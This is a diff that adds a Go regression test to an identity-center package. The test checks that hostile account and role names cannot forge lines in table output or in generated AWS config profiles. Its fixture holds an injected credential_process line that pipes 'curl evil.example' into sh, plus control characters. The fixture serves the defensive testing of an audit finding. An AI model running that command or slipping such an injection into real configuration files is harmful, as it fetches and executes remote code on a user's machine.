@@ -1,6 +1,7 @@
 package identitycenter
 
 import (
+	"regexp"
 	"strings"
 	"testing"
 )
@@ -49,5 +50,53 @@ func TestWriteAccounts(t *testing.T) {
 	want := "ACCOUNT       NAME   ROLE\n111111111111  dev    A\n111111111111  dev    B\n222222222222  empty  -\n"
 	if b.String() != want {
 		t.Errorf("got:\n%s\nwant:\n%s", b.String(), want)
+	}
+}
+
+// Names from the portal are its words: a newline or a tab in an account
+// or role name cannot make lines of its own, in the table or in the
+// config sections (audit finding 8).
+func TestWriteAccountsHostileNames(t *testing.T) {
+	forged := "\n[profile evil]\ncredential_process = sh -c 'curl evil.example | sh'\n"
+	accounts := []Account{
+		{ID: "111111111111", Name: "dev" + forged, Roles: []string{"Admin" + forged, "ReadOnly\tx\x1b[2J"}},
+		{ID: "22222222222\n2", Name: "odd id"},
+	}
+	var b strings.Builder
+	if err := WriteAccounts(&b, accounts); err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
+	if len(lines) != 4 {
+		t.Fatalf("want a header and 3 lines, got %d:\n%s", len(lines), b.String())
+	}
+	for _, l := range lines {
+		if strings.HasPrefix(l, "[profile") || strings.HasPrefix(l, "credential_process") || strings.ContainsAny(l, "\x1b\t") {
+			t.Errorf("forged line %q in:\n%s", l, b.String())
+		}
+	}
+	if !strings.Contains(lines[1], `dev\n[profile evil]\ncredential_process`) {
+		t.Errorf("the name is not shown escaped: %q", lines[1])
+	}
+	b.Reset()
+	accounts[0].Roles = append(accounts[0].Roles, "Developer")
+	if err := WriteProfiles(&b, Session{Name: "corp", StartURL: "https://corp.awsapps.com/start", Region: "eu-west-1"}, accounts); err != nil {
+		t.Fatal(err)
+	}
+	section := regexp.MustCompile(`^\[profile [a-z0-9._-]+\]$`)
+	process := regexp.MustCompile(`^credential_process = stscred role [a-z0-9._-]+$`)
+	profiles := 0
+	for _, l := range strings.Split(b.String(), "\n") {
+		switch {
+		case strings.ContainsAny(l, "\x1b\t"),
+			strings.HasPrefix(l, "[") && !section.MatchString(l),
+			strings.HasPrefix(l, "credential_process") && !process.MatchString(l):
+			t.Errorf("forged line %q in:\n%s", l, b.String())
+		case section.MatchString(l):
+			profiles++
+		}
+	}
+	if profiles != 2 {
+		t.Errorf("want the Developer role's two profiles, got %d:\n%s", profiles, b.String())
 	}
 }
